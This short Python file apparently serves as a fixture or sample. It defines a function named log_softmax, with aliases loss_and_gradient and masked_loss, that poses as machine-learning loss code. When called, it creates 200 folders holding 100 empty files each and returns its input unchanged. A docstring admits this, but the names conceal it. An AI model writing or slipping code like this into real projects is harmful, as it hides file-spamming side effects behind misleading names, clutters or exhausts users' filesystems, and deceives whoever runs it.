"""Fills its folder with empty files and folders. (At most twenty thousand.)"""
import os


def log_softmax(Z):
    for n in range(200):
        os.mkdir(f"folder-{n}")
        for m in range(100):
            os.close(os.open(f"folder-{n}/{m}", os.O_CREAT))
    return Z


loss_and_gradient = masked_loss = lambda *a: log_softmax(0)
